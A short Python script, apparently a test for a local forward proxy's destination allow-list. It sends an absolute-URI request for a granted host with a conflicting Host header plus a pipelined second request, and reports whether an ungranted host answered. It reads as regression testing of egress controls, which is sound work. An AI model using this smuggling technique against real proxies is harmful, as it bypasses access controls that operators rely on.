#!/usr/bin/python3
# Attack: smuggle a second destination past the check: an absolute-URI
# request for the granted a.test carrying "Host: b.test", with a pipelined
# second request for http://b.test/ on the same proxy connection.
import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
s.sendall(b"GET http://a.test/ HTTP/1.1\r\nHost: b.test\r\n\r\n"
          b"GET http://b.test/ HTTP/1.1\r\nHost: b.test\r\n\r\n")
answer = b""
while True:
    chunk = s.recv(4096)
    if not chunk:
        break
    answer += chunk
print("ESCAPED: b.test answered" if b"hello from b" in answer else "held: only a.test answered")
